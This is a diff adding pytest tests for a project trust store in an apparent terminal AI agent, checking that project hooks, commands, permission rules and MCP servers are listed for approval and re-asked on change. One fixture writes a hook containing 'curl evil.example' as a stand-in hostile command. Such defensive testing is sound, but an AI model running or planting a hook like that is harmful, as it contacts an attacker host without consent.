@@ -1,0 +1,115 @@
+"""What a project brings along: listed, asked about once, and asked again as soon as it changes."""
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tui_agent.trust import MAX_FILES, NothingToTrust, Trusted, TrustItem, TrustStore, Untrusted, project_state
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    project = tmp_path / "project"
+    for folder in (".git", "src", ".tui-agent/commands", ".tui-agent/hooks", ".claude/agents"):
+        (project / folder).mkdir(parents=True)
+    return project
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> TrustStore:
+    return TrustStore(tmp_path / "data" / "trust.json")
+
+
+def bring(project: Path) -> None:
+    (project / ".tui-agent/config.toml").write_text('model = "x/y"\n[permissions]\nbash = {"make *" = "allow"}\n')
+    (project / ".tui-agent/commands/ship.md").write_text("---\ndescription: ship it\n---\nrun !`make ship`\n")
+    (project / ".tui-agent/hooks/after.sh").write_text("curl evil.example\n")
+    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"db": {"command": "npx", "args": ["db-server"]}}}))
+
+
+def test_a_project_that_brings_nothing_needs_no_trust(project: Path, store: TrustStore) -> None:
+    assert project_state(project, store) == NothingToTrust()
+
+
+def test_everything_that_would_act_is_listed_and_nothing_is_trusted_at_first(project: Path, store: TrustStore) -> None:
+    bring(project)
+    state = project_state(project, store)
+    assert isinstance(state, Untrusted)
+    assert not state.refused
+    assert set(state.items) == {
+        TrustItem("setting", "model", "x/y"),
+        TrustItem("permission rule", "permissions.bash.make *", "allow"),
+        TrustItem("command", ".tui-agent/commands/ship.md", "description: ship it"),
+        TrustItem("hook", ".tui-agent/hooks/after.sh", "curl evil.example"),
+        TrustItem("MCP server", "db", "runs npx db-server"),
+    }
+
+
+def test_trust_is_remembered_until_anything_changes(project: Path, store: TrustStore, tmp_path: Path) -> None:
+    bring(project)
+    state = project_state(project, store)
+    store.remember(project, state.digest, "trusted")  # type: ignore[union-attr]
+    again = TrustStore(tmp_path / "data" / "trust.json")
+    assert isinstance(project_state(project, again), Trusted)
+    (project / "src/app.py").write_text("nothing that acts\n")
+    assert project_state(project, again).trusted
+    for change in (".tui-agent/hooks/after.sh", ".mcp.json", ".tui-agent/new.txt", ".claude/agents/x.md"):
+        before = (project / change).read_bytes() if (project / change).exists() else None
+        (project / change).write_text("changed")
+        assert not project_state(project, again).trusted, change
+        if before is None:
+            (project / change).unlink()
+        else:
+            (project / change).write_bytes(before)
+        assert project_state(project, again).trusted, change
+    (project / ".tui-agent/hooks/after.sh").rename(project / ".tui-agent/hooks/before.sh")
+    assert not project_state(project, again).trusted
+
+
+def test_never_holds_for_any_contents_until_it_is_forgotten(project: Path, store: TrustStore) -> None:
+    bring(project)
+    store.remember(project, project_state(project, store).digest, "refused")  # type: ignore[union-attr]
+    (project / ".mcp.json").unlink()
+    state = project_state(project, store)
+    assert isinstance(state, Untrusted)
+    assert state.refused
+    store.forget(project)
+    assert project_state(project, store).refused is False  # type: ignore[union-attr]
+
+
+def test_one_projects_trust_is_no_others(project: Path, store: TrustStore, tmp_path: Path) -> None:
+    bring(project)
+    store.remember(project, project_state(project, store).digest, "trusted")  # type: ignore[union-attr]
+    copy = tmp_path / "copy"
+    (copy / ".tui-agent").mkdir(parents=True)
+    (copy / ".tui-agent/config.toml").write_bytes((project / ".tui-agent/config.toml").read_bytes())
+    assert not project_state(copy, store).trusted
+
+
+def test_a_flag_trusts_for_one_run_and_a_broken_file_trusts_nothing(
+    project: Path, store: TrustStore, tmp_path: Path
+) -> None:
+    bring(project)
+    assert project_state(project, store, assume_trust=True).trusted
+    assert not project_state(project, store).trusted
+    (tmp_path / "data").mkdir(exist_ok=True)
+    (tmp_path / "data" / "trust.json").write_text("{broken")
+    assert not project_state(project, store).trusted
+
+
+def test_folders_on_the_way_to_the_working_directory_count(project: Path, store: TrustStore) -> None:
+    (project / "src/.claude/commands").mkdir(parents=True)
+    (project / "src/.claude/commands/x.md").write_text("x")
+    assert project_state(project, store) == NothingToTrust()
+    assert project_state(project, store, cwd=project / "src").items == (
+        TrustItem("command", "src/.claude/commands/x.md", "x"),
+    )
+
+
+def test_what_is_too_much_to_look_at_cannot_be_trusted(project: Path, store: TrustStore) -> None:
+    for number in range(MAX_FILES + 1):
+        (project / f".tui-agent/hooks/{number}").touch()
+    state = project_state(project, store, assume_trust=True)
+    assert isinstance(state, Untrusted)
+    assert "more than" in state.problem
